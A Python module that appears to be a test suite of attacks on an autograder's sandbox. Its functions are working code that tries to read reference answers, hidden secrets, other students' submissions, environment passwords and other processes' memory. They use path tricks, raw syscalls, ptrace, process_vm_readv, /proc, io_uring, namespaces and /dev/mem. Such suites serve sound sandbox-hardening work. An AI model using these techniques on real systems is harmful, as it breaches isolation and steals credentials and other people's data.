"""Reading what nobody may see: the key, the secret, what others handed in."""

import ctypes
import gc
import glob
import importlib
import inspect
import linecache
import mmap
import os
import struct
import subprocess
import sys

import numpy as np
import torch

from attacks.known import COURSE, REFERENCE, libc, loot, memory_of, others, tell


def open_the_reference(x):
    """Opens the solution's answers.py by its path."""
    tell(open(REFERENCE).read())


def scan_the_solution(x):
    """Lists the solution's folder with os.scandir and reads each file."""
    files = [each.path for each in os.scandir(f"{COURSE}/solutions/vault") if each.is_file()]
    tell([open(path).read(200) for path in files])


def read_the_secret(x):
    """Reads what the hidden inputs are drawn from."""
    tell(open(f"{COURSE}/solutions/vault/secret").read())


def read_another_submission(x):
    """Reads what another student handed in."""
    tell(open(f"{COURSE}/handed_in/b_other.py").read())


def read_the_results_of_others(x):
    """Reads the results that are written so far."""
    tell([loot(open(path, "rb").read()) for path in glob.glob(f"{COURSE}/out/**/*", recursive=True)
          if os.path.isfile(path)] or 1 / 0)  # fmt: skip


def climb_with_dots(x):
    """Goes up from the interpreter's folder, which may be read, and down again."""
    up = "/.." * 20
    tell(open(f"{os.path.dirname(os.__file__)}{up}{REFERENCE}").read())


def open_below_a_descriptor(x):
    """Opens the root folder, then the reference relative to it."""
    root = os.open("/", os.O_PATH)
    tell(os.read(os.open(REFERENCE[1:], os.O_RDONLY, dir_fd=root), 1000))


def open_with_libc(x):
    """Calls open and read of the C library."""
    buffer = ctypes.create_string_buffer(1000)
    libc().read(libc().open(REFERENCE.encode(), 0), buffer, 999)
    tell(loot(buffer.value) or 1 / 0)


def open_with_bare_system_calls(x):
    """Calls openat2 and openat by their numbers."""
    how = struct.pack("QQQ", 0, 0, 0)
    for arguments in ((437, -100, REFERENCE.encode(), how, 24), (257, -100, REFERENCE.encode(), 0)):
        descriptor = libc().syscall(*arguments)
        if descriptor >= 0:
            tell(os.read(descriptor, 1000))
    return x


def open_by_handle(x):
    """Asks for a file's handle and opens that, past the path."""
    handle = ctypes.create_string_buffer(struct.pack("II", 128, 0) + bytes(128), 136)
    mount = ctypes.c_int()
    libc().name_to_handle_at(-100, REFERENCE.encode(), handle, ctypes.byref(mount), 0)
    root = os.open("/", os.O_RDONLY)
    tell(os.read(libc().open_by_handle_at(root, handle, 0), 1000))


def map_the_reference(x):
    """Maps the file into memory."""
    with open(REFERENCE, "rb") as file:
        tell(mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ)[:500])


def let_numpy_read(x):
    """np.fromfile and np.memmap open files too."""
    tell(bytes(np.fromfile(REFERENCE, np.uint8)[:500]))


def let_torch_read(x):
    """torch.from_file maps a file."""
    tell(bytes(torch.from_file(REFERENCE, size=100, dtype=torch.uint8).numpy()))


def import_the_reference(x):
    """Puts the solution's folder on the path and imports it, without a trace."""
    sys.dont_write_bytecode = True
    sys.path.insert(0, f"{COURSE}/solutions/vault")
    tell(importlib.import_module("answers").KEY)


def show_source_lines(x):
    """linecache reads any file that a traceback names."""
    tell(linecache.getlines(REFERENCE) or 1 / 0)


def go_there_first(x):
    """Changes the folder, then opens a bare name."""
    os.chdir(f"{COURSE}/solutions/vault")
    tell(open("answers.py").read())


def link_to_it(x):
    """Makes a link where links may be followed."""
    os.symlink(REFERENCE, "/tmp/attack_link")
    tell(open("/tmp/attack_link").read())


def start_cat(x):
    """Starts another program, which no Python trick binds."""
    tell(subprocess.run(["/bin/cat", REFERENCE], capture_output=True).stdout)


def read_in_a_fork(x):
    """Forks; the copy reads and sends it up a pipe."""
    reads, writes = os.pipe()
    if os.fork() == 0:
        os.write(writes, open(REFERENCE, "rb").read(1000))
        os._exit(0)
    tell(os.read(reads, 1000))


def read_as_root_of_a_new_namespace(x):
    """Becomes root in a user namespace of its own."""
    libc().unshare(0x10000000 | 0x00020000)
    tell(open(REFERENCE).read())


def ask_the_kernel_ring(x):
    """io_uring makes calls that a filter of calls never sees."""
    parameters = ctypes.create_string_buffer(120)
    ring = libc().syscall(425, 8, parameters)
    tell(open(REFERENCE).read() if ring >= 0 else 1 / 0)


def read_open_descriptors(x):
    """Reads every descriptor that may have been left open."""
    found = []
    for number in range(5, 200):
        try:
            found += loot(os.pread(number, 1 << 20, 0)) + [os.readlink(f"/proc/self/fd/{number}")]
        except OSError:
            continue
    tell(found or 1 / 0)


def descriptors_of_others(x):
    """Opens what other processes have open, through /proc."""
    found = []
    for pid in others():
        for number in range(64):
            try:
                found += loot(open(f"/proc/{pid}/fd/{number}", "rb").read(1 << 16))
            except OSError:
                continue
    tell(found or 1 / 0)


def take_a_descriptor_of_the_grader(x):
    """pidfd_getfd copies an open file out of another process."""
    for pid in others():
        process = libc().syscall(434, pid, 0)
        for number in range(3, 64):
            taken = libc().syscall(438, process, number, 0)
            if taken >= 0:
                tell(os.readlink(f"/proc/self/fd/{taken}"))
    return x


def environment_of_others(x):
    """Looks for passwords in the environment, its own and those of others."""
    found = loot(str(os.environ).encode())
    for pid in ("self", *others()):
        try:
            found += loot(open(f"/proc/{pid}/environ", "rb").read())
        except OSError:
            continue
    tell(found or 1 / 0)


def search_own_memory(x):
    """Reads all its own memory: has the key ever been in this process?"""
    tell(memory_of("self") or 1 / 0)


def search_memory_of_others(x):
    """Reads the grader's memory through /proc."""
    found = []
    for pid in others():
        try:
            found += memory_of(pid)
        except OSError:
            continue
    tell(found or 1 / 0)


def search_freed_memory(x):
    """What an array that isn't filled finds in its place."""
    found = [loot(torch.empty(1 << 22, dtype=torch.uint8).numpy().tobytes()) for _ in range(8)]
    tell([each for each in found if each] or 1 / 0)


def ask_the_garbage_collector(x):
    """Looks at every object that Python knows."""
    texts = [str(each)[:5000] for each in gc.get_objects() if type(each) in (dict, list, tuple)]
    tell(loot(" ".join(texts).encode()) or 1 / 0)


def walk_the_frames(x):
    """Looks at the variables of all callers."""
    found = []
    for each in inspect.stack():
        found += loot(str({**each.frame.f_globals, **each.frame.f_locals}).encode())
    tell(found or 1 / 0)


def look_into_all_modules(x):
    """Looks at the variables of all imported modules."""
    text = " ".join(str(vars(module))[:100_000] for module in [*sys.modules.values()] if module)
    tell(loot(text.encode()) or 1 / 0)


def trace_the_grader(x):
    """ptrace: attaches to the processes around it and reads their memory."""
    for pid in others():
        if libc().ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE stops nobody
            tell(memory_of(pid))
    return x


def read_across_processes(x):
    """process_vm_readv needs no file."""
    buffer = ctypes.create_string_buffer(1 << 16)
    here = struct.pack("QQ", ctypes.addressof(buffer), 1 << 16)
    found = []
    for pid in others():
        try:
            maps = [line.split() for line in open(f"/proc/{pid}/maps") if "[heap]" in line]
        except OSError:
            continue
        start, end = (int(each, 16) for each in maps[0][0].split("-"))
        for at in range(start, end, 1 << 16):
            if libc().process_vm_readv(pid, here, 1, struct.pack("QQ", at, 1 << 16), 1, 0) > 0:
                found += loot(buffer.raw)
    tell(found or 1 / 0)


def read_kernel_memory(x):
    """The whole machine's memory as a file."""
    tell(
        loot(open("/proc/kcore", "rb").read(1 << 20)) or loot(open("/dev/mem", "rb").read(1 << 20))
    )


def look_for_core_files(x):
    """A grader that has crashed may have left its memory behind."""
    found = [glob.glob(pattern) for pattern in (f"{COURSE}/core*", "/var/crash/*", "/core*")]
    tell(sum(found, []) or 1 / 0)


def look_into_shared_memory(x):
    """POSIX and System V shared memory of others."""
    found = os.listdir("/dev/shm")
    for number in range(64):
        address = libc().shmat(number, None, 0o10000)
        if address not in (-1, 0xFFFFFFFF):
            found += ctypes.string_at(address, 100)
    tell(found or 1 / 0)
